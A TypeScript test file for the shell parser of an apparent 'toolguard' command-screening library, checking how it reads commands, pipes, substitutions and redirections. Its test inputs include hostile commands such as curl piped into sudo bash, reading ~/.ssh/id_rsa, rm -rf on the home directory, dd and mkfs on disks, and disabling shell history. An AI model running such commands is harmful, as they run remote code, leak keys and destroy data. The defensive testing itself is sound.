import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseShell } from '../../../lib/toolguard/shell-parser.ts';
import type { ShellScript } from '../../../lib/toolguard/shell-script.ts';

const parsed = (source: string): ShellScript => {
  const script = parseShell(source);
  expect(script, source).toBeDefined();
  return script!;
};
const names = (script: ShellScript) => script.commands.map((command) => command.name);

describe('parseShell (mvdan-sh, read from its Go objects)', () => {
  it('reads commands, wrappers and words with quotes removed and HOME resolved', () => {
    const script = parsed('sudo rm -rf "$HOME"/* ${HOME}/x \'$HOME\' $DIR');
    expect(script.readBy).toBe('parser');
    const [rm] = script.commands;
    expect(rm!.name).toBe('rm');
    expect(rm!.wrappers).toEqual(['sudo']);
    expect(rm!.args.map((arg) => [arg.text, arg.literal])).toEqual([
      ['-rf', true],
      ['~/*', true],
      ['~/x', true],
      ['$HOME', true],
      ['$DIR', false],
    ]);
  });

  it('flattens pipes into stages, in order', () => {
    const script = parsed('curl -s http://x | tee log | sudo bash -s');
    expect(script.pipelines.map((pipeline) => pipeline.stages.map((stage) => stage.map((command) => command.name)))).toEqual([[['curl'], ['tee'], ['bash']]]);
  });

  it('links commands inside substitutions to the command holding them', () => {
    const script = parsed('bash <(curl -s http://x) && x=$(cat ~/.ssh/id_rsa) && echo "$(id)"');
    const byName = Object.fromEntries(script.commands.map((command) => [command.name, command]));
    expect(byName['curl']!.parent?.name).toBe('bash');
    expect(byName['cat']!.parent?.name).toBe('');
    expect(byName['id']!.parent?.name).toBe('echo');
  });

  it('reads every redirection operator, descriptor and here-document', () => {
    const script = parsed('a > o; a >> o; a < i; a <> f; a <&3; a 2>&1; a >| o; a &> o; a &>> o; a <<< "s"; cat <<EOF\nbody $x\nEOF');
    const ops = script.commands.flatMap((command) => command.redirects.map((redirect) => redirect.op));
    expect(ops).toEqual(['>', '>>', '<', '<>', '<&', '>&', '>|', '&>', '&>>', '<<<', '<<']);
    const dup = script.commands[5]!.redirects[0]!;
    expect([dup.fd, dup.target?.text]).toEqual(['2', '1']);
    expect(script.commands[9]!.redirects[0]!.input).toBe('s');
    expect(script.commands[10]!.redirects[0]!.input).toBe('body $x\n');
  });

  it('reads inside functions, conditionals, loops, case arms, groups and subshells', () => {
    const script = parsed('f() { rm -rf ~; }\nif true; then dd of=/dev/sda; elif x; then y; else mkfs /dev/sdb; fi\nwhile a; do b; done\nfor i in 1 2; do c; done\ncase $x in a) d;; esac\n{ e; } > /dev/sda\n(g)');
    expect(names(script)).toEqual(expect.arrayContaining(['rm', 'true', 'dd', 'x', 'y', 'mkfs', 'a', 'b', 'c', 'd', 'e', '', 'g']));
    expect(script.functions.map((fn) => [fn.name, fn.body.map((command) => command.name)])).toEqual([['f', ['rm']]]);
  });

  it('keeps export/declare assignments (HISTFILE=/dev/null)', () => {
    const [exported] = parsed('export HISTFILE=/dev/null').commands;
    expect(exported!.name).toBe('export');
    expect(exported!.assigns.map((assign) => [assign.name, assign.value?.text])).toEqual([['HISTFILE', '/dev/null']]);
  });

  it('maps UTF-8 byte offsets back to UTF-16 offsets', () => {
    const source = 'echo "héllo 😀" && rm -rf ~';
    const rm = parsed(source).commands.find((command) => command.name === 'rm')!;
    expect(source.slice(rm.start, rm.end)).toBe('rm -rf ~');
    expect(parsed(source).commands[0]!.args[0]!.text).toBe('héllo 😀');
  });

  it('returns undefined (never throws) on what does not parse or nests too deep', () => {
    expect(parseShell("it's not shell")).toBeUndefined();
    expect(parseShell('echo $(')).toBeUndefined();
    expect(parseShell('$('.repeat(5_000) + 'x' + ')'.repeat(5_000))).toBeUndefined();
    expect(parseShell('('.repeat(20_000))).toBeUndefined();
    // And parses again afterwards (the parser is rebuilt after a failure).
    expect(parseShell('ls -la')?.commands[0]?.name).toBe('ls');
  });

  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', ' ', '$', '(', ')', '{', '}', '|', '&', ';', '<', '>', "'", '"', '`', '\\', '\n', '#', '~', '/', '=', 'é'), maxLength: 80 }), (text) => {
        parseShell(text);
      }),
      { numRuns: 500 },
    );
  });

  it('puts back the V8 stack-trace limit that GopherJS raises to Infinity', () => {
    expect(Error.stackTraceLimit).not.toBe(Number.POSITIVE_INFINITY);
  });
});
